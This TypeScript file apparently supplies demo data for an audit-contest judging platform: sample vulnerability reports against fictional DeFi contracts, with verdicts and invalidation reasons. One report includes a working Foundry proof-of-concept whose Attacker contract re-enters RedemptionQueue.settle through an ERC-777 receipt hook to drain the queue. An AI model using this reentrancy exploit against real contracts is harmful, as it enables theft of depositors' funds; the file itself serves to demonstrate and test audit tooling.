import type { OptionalTextName } from '../../domain/issues/issue-text'
import type { InvalidationCode } from '../../domain/judging/invalidation-codes'
import { pastIssues, shortReport } from './demo-past-issues'
import type { DemoMember } from './demo-people'

/** `day` is relative to the contest's start. */
export type DemoIssue = Partial<Record<OptionalTextName, string>> & {
  contest: string
  author: DemoMember
  day: number
  title: string
  description: string
  verdict?: 'valid' | 'invalid'
  reason?: string
  code?: InvalidationCode
  group?: string | undefined
}

const settleTwice = `## Summary

\`RedemptionQueue.settle\` pays an epoch out before it records that the epoch is settled. Anyone with a request can re-enter from the receipt hook of the asset and settle the same epoch again. Each pass releases assets that belong to later epochs.

## Root cause

The flag is written after the external calls:

https://github.com/vault-spring/contracts/blob/8b1a9953c4611296a827abf8c47804d7e6c49c6b/src/RedemptionQueue.sol#L63-L73

\`asset\` is ERC-777 compatible, so \`transfer\` calls \`tokensReceived\` on the receiver before the loop goes on.

## Impact

- The queue holds the assets of every open epoch: 38,912 of 63,374 in the proof, which is **61.4% of total funds**.
- One request is enough. No role, no price move and no trusted party is involved.
- Four nested calls empty the queue. Redeemers of later epochs are left with burned shares and nothing to claim.

## Mitigation

Set \`e.settled = true\` before the loop, or guard \`settle\` with \`nonReentrant\`. The first is enough and costs no gas.`

const settleTwicePoc = `A test of the project, with its mock of the asset:

\`\`\`solidity
import {Test} from "forge-std/Test.sol";
import {LossTest} from "primacy/LossTest.sol";
import {EpochVault} from "../src/EpochVault.sol";
import {RedemptionQueue} from "../src/RedemptionQueue.sol";
import {HookedAsset} from "./HookedAsset.sol";

contract Attacker {
    RedemptionQueue queue;
    HookedAsset asset;
    uint256 epoch;

    constructor(EpochVault vault, RedemptionQueue queue_, HookedAsset asset_, uint256 amount) {
        (queue, asset) = (queue_, asset_);
        asset.mint(address(this), amount);
        epoch = queue.request(vault.deposit(amount));
    }

    function tokensReceived(address, uint256 amount) external {
        // e.settled is still false
        if (asset.balanceOf(address(queue)) >= amount) queue.settle(epoch);
    }
}

contract SettleTwice is Test, LossTest {
    HookedAsset asset = new HookedAsset();
    EpochVault vault = new EpochVault(asset);
    RedemptionQueue queue = new RedemptionQueue(vault);
    address bob = makeAddr("bob");

    function setUp() public {
        vault.setQueue(address(queue));
        asset.mint(bob, 53_646);
        vm.prank(bob);
        vault.deposit(53_646);
        new Attacker(vault, queue, asset, 9_728);
        vm.warp(queue.closesAt(0));
        vm.prank(bob);
        queue.request(29_184); // in the next epoch
    }

    function fundsToken() internal view override returns (address) {
        return address(asset);
    }

    function fundsHolders() internal view override returns (address[] memory holders) {
        holders = new address[](2);
        (holders[0], holders[1]) = (address(vault), address(queue));
    }

    function attack() internal override {
        queue.settle(0); // re-enters three times
    }
}
\`\`\``

export const demoIssues: DemoIssue[] = [
  {
    contest: 'Vault Spring',
    author: 'ada',
    day: 1,
    title: 'Settling an epoch twice releases assets of later epochs',
    description: settleTwice,
    pocLink: settleTwicePoc,
    verdict: 'valid',
    group: 'settle',
  },
  {
    contest: 'Vault Spring',
    author: 'linus',
    day: 3,
    title: 'Reentrancy in RedemptionQueue.settle drains the queue',
    description: shortReport(
      '`settle` transfers to each receiver before it marks the epoch as settled, and the asset calls back.',
      'A receiver settles the same epoch repeatedly and takes more than 20% of total funds.',
    ),
    verdict: 'valid',
    group: 'settle',
  },
  {
    contest: 'Vault Spring',
    author: 'ada',
    day: 4,
    title: 'First depositor can inflate the share price of an empty vault',
    description: shortReport(
      '`convertToShares` rounds down and the vault mints no dead shares.',
      'Later deposits are rounded to zero shares.',
    ),
    verdict: 'invalid',
    code: 'wrong_claim',
    reason:
      'The deployment script seeds every vault with dead shares, so the path does not exist under normal operating conditions.',
  },
  {
    contest: 'Vault Spring',
    author: 'ada',
    day: 8,
    title: 'PriceGuard accepts a stale round after the sequencer restarts',
    description: shortReport(
      '`latestRoundData` is read without a look at `updatedAt`.',
      'Requests settle at an old price until the feed moves.',
    ),
    pocLink: 'https://gist.github.com/ada/stale-round',
  },
  {
    contest: 'Vault Spring',
    author: 'mei',
    day: 9,
    title: 'Cancelled requests still count towards the epoch total',
    description: shortReport(
      '`cancel` burns the request and leaves `e.shares` as it was.',
      'Everybody else in the epoch is paid less.',
    ),
  },
  {
    contest: 'Marrow Restaking',
    author: 'mei',
    day: 2,
    title: 'Slashing in one network undelegates from all',
    description: shortReport(
      '`_slash` iterates over every delegation of the operator.',
      'One network can remove the security of the others.',
    ),
    verdict: 'valid',
  },
  {
    contest: 'Marrow Restaking',
    author: 'ada',
    day: 6,
    title: 'Operators can withdraw during the unbonding period',
    description: shortReport(
      '`completeWithdrawal` compares with the wrong timestamp.',
      'Stake leaves before it can be slashed.',
    ),
  },
  {
    contest: 'Lantern AMM',
    author: 'linus',
    day: 2,
    title: 'Limit orders at the edge of a word are filled twice',
    description: shortReport(
      'The bitmap walk visits the last tick of a word again as the first of the next.',
      'A maker is paid twice from the pool.',
    ),
    verdict: 'valid',
    group: 'word',
  },
  {
    contest: 'Lantern AMM',
    author: 'ada',
    day: 5,
    title: 'Packed ticks let a maker collect an order twice',
    description: shortReport(
      'Tick 255 of a word aliases tick 0 of the next one.',
      'Half of a pool can be taken in one block.',
    ),
    verdict: 'valid',
    group: 'word',
  },
  {
    contest: 'Lantern AMM',
    author: 'mei',
    day: 9,
    title: 'Fee growth can be read before it is checkpointed',
    description: shortReport('`collect` trusts a cached growth.', 'Fees of others can be collected.'),
    verdict: 'valid',
  },
  {
    contest: 'Cairnfold Dollar',
    author: 'ada',
    day: 3,
    title: 'Events omit the position id',
    description: shortReport('`Redeemed` has no id.', 'Indexers have to guess.'),
    verdict: 'invalid',
    code: 'below_critical',
  },
  ...pastIssues,
]
